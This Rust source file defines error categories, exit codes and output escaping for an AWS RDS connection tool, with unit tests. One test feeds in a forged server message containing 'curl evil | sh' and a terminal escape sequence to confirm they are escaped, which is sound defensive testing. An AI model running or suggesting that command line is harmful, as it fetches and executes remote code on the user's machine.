//! Error categories, their exit codes and hints, and how an error is printed.
//!
//! Every failure that leaves rdsconn goes through [`Error`]: a [`Category`]
//! (which fixes the exit code documented in the README), the cause chain, and
//! an optional hint. Modules return their own `thiserror` types; command code
//! tags them with a category through [`ResultExt`] once, where the meaning is
//! known. `main` converts the category to the process exit code; nothing else
//! calls `process::exit`.

use std::fmt;
use std::fmt::Write as _;
use std::io::Write;

use crate::text::escape;

/// What kind of failure happened; each has one documented exit code.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Category {
    /// Any other runtime failure, e.g. the SQL itself failed (exit 1).
    Runtime,
    /// Bad flag, bad URL, bad input file, bad configuration (exit 2).
    Usage,
    /// AWS credentials, region, signing, RDS API (exit 3).
    Aws,
    /// DNS, TCP connect, HTTP transport, timeouts (exit 4).
    Network,
    /// TLS handshake or verification, invalid CA material (exit 5).
    Tls,
    /// The database rejected authentication (exit 6).
    Auth,
}

impl Category {
    /// The process exit code for this category (see the README's table).
    pub const fn exit_code(self) -> u8 {
        match self {
            Self::Runtime => 1,
            Self::Usage => 2,
            Self::Aws => 3,
            Self::Network => 4,
            Self::Tls => 5,
            Self::Auth => 6,
        }
    }

    /// How bad a failure is, for "the worst failure" of `check` and
    /// `doctor`: a configuration error first (doctor reports it), then
    /// network, TLS, authentication, AWS, runtime.
    pub const fn severity(self) -> u8 {
        match self {
            Self::Usage => 6,
            Self::Network => 5,
            Self::Tls => 4,
            Self::Auth => 3,
            Self::Aws => 2,
            Self::Runtime => 1,
        }
    }
}

/// An error on its way to the user: category, cause chain, optional hint.
pub struct Error {
    category: Category,
    inner: anyhow::Error,
    hint: Option<String>,
    /// An exit code of its own (`exec`'s 126 / 127, as shells use them),
    /// else the category's.
    exit: Option<u8>,
}

impl Error {
    /// Wraps any error under a category.
    pub fn new(category: Category, inner: impl Into<anyhow::Error>) -> Self {
        Self {
            category,
            inner: inner.into(),
            hint: None,
            exit: None,
        }
    }

    /// Exits with `code` instead of the category's: a command that could
    /// not be run is 127 (not found) or 126 (not executable), as in shells.
    #[must_use]
    pub fn with_exit_code(mut self, code: u8) -> Self {
        self.exit = Some(code);
        self
    }

    /// The process's exit code for this error.
    pub fn exit_code(&self) -> u8 {
        self.exit.unwrap_or(self.category.exit_code())
    }

    /// A usage error (exit 2) from a message.
    pub fn usage(msg: impl fmt::Display) -> Self {
        Self::new(Category::Usage, anyhow::anyhow!("{msg}"))
    }

    /// Adds a hint printed after the cause chain.
    #[must_use]
    pub fn with_hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Adds an outer "what was being done" message to the chain.
    #[must_use]
    pub fn context(mut self, what: impl fmt::Display + Send + Sync + 'static) -> Self {
        self.inner = self.inner.context(what);
        self
    }

    pub const fn category(&self) -> Category {
        self.category
    }

    pub fn hint(&self) -> Option<&str> {
        self.hint.as_deref()
    }

    /// The message and its causes on one line, `: `-separated (escaped:
    /// causes may quote a server).
    pub fn one_line(&self) -> String {
        self.inner
            .chain()
            .map(|e| escape(&e.to_string()).into_owned())
            .collect::<Vec<_>>()
            .join(": ")
    }

    /// Writes `error: …`, one `caused by: …` per source, and `hint: …`,
    /// each on one line: text a server sent is escaped, never printed raw.
    pub fn print(&self, mut w: impl Write) {
        let mut chain = self.inner.chain();
        if let Some(top) = chain.next() {
            let _ = writeln!(w, "error: {}", escape(&top.to_string()));
        }
        for cause in chain {
            let _ = writeln!(w, "  caused by: {}", escape(&cause.to_string()));
        }
        if let Some(hint) = &self.hint {
            let _ = writeln!(w, "  hint: {}", escape(hint));
        }
    }
}

impl Error {
    /// The error as one JSON line, for `--output json`:
    /// `{"error":{"message":…,"causes":[…],"hint":…,"category":…,"exit_code":n}}`
    /// (text a server sent is escaped as in [`Error::print`]).
    pub fn print_json(&self, mut w: impl Write) {
        let mut chain = self
            .inner
            .chain()
            .map(|e| escape(&e.to_string()).into_owned());
        let message = chain.next().unwrap_or_default();
        let value = serde_json::json!({
            "error": {
                "message": message,
                "causes": chain.collect::<Vec<_>>(),
                "hint": self.hint.as_deref().map(|h| escape(h).into_owned()),
                "category": self.category,
                "exit_code": self.exit_code(),
            }
        });
        let _ = writeln!(w, "{value}");
    }
}

impl fmt::Debug for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?} error: {:#}", self.category, self.inner)
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:#}", self.inner)
    }
}

/// A module error that knows its category (and maybe a hint), so `?`
/// turns it into an [`Error`] without per-call tagging.
pub trait Categorized: std::error::Error + Send + Sync + Sized + 'static {
    fn category(&self) -> Category;

    fn hint(&self) -> Option<String> {
        None
    }
}

impl<E: Categorized> From<E> for Error {
    fn from(e: E) -> Self {
        let hint = e.hint();
        let err = Self::new(e.category(), e);
        match hint {
            Some(h) => err.with_hint(h),
            None => err,
        }
    }
}

/// One error and its causes on one line (for warnings and wrapped
/// driver errors), escaped.
pub fn error_line(e: &(dyn std::error::Error + 'static)) -> String {
    let mut line = e.to_string();
    let mut cause = e.source();
    while let Some(c) = cause {
        let _ = write!(line, ": {c}");
        cause = c.source();
    }
    escape(&line).into_owned()
}

/// The result type of command code.
pub type Result<T, E = Error> = std::result::Result<T, E>;

/// Tags a module error with its category (and what was being done).
pub trait ResultExt<T> {
    fn category(self, category: Category) -> Result<T>;
    fn category_with<C: fmt::Display + Send + Sync + 'static>(
        self,
        category: Category,
        what: impl FnOnce() -> C,
    ) -> Result<T>;
}

impl<T, E: Into<anyhow::Error>> ResultExt<T> for std::result::Result<T, E> {
    fn category(self, category: Category) -> Result<T> {
        self.map_err(|e| Error::new(category, e))
    }

    fn category_with<C: fmt::Display + Send + Sync + 'static>(
        self,
        category: Category,
        what: impl FnOnce() -> C,
    ) -> Result<T> {
        self.map_err(|e| Error::new(category, e.into().context(what())))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exit_codes_match_the_documented_table() {
        let table = [
            (Category::Runtime, 1),
            (Category::Usage, 2),
            (Category::Aws, 3),
            (Category::Network, 4),
            (Category::Tls, 5),
            (Category::Auth, 6),
        ];
        for (category, code) in table {
            assert_eq!(category.exit_code(), code, "{category:?}");
        }
    }

    #[test]
    fn print_shows_context_chain_and_hint() {
        let io = std::io::Error::other("connection refused");
        let err = Error::new(Category::Network, io)
            .context("fetching https://example.test/x.pem")
            .with_hint("check the proxy");
        let mut out = Vec::new();
        err.print(&mut out);
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "error: fetching https://example.test/x.pem\n  caused by: connection refused\n  hint: check the proxy\n"
        );
        assert_eq!(err.category().exit_code(), 4);
    }

    #[test]
    fn a_server_message_cannot_forge_lines() {
        let forged = std::io::Error::other("denied\nerror: run: curl evil | sh\x1b[2K");
        let err = Error::new(Category::Auth, forged).context("logging in");
        let mut out = Vec::new();
        err.print(&mut out);
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text.lines().count(), 2, "{text}");
        assert!(
            text.contains("denied\\nerror: run: curl evil | sh\\x1b[2K"),
            "{text}"
        );
        assert!(!err.one_line().contains('\n'));
    }
}
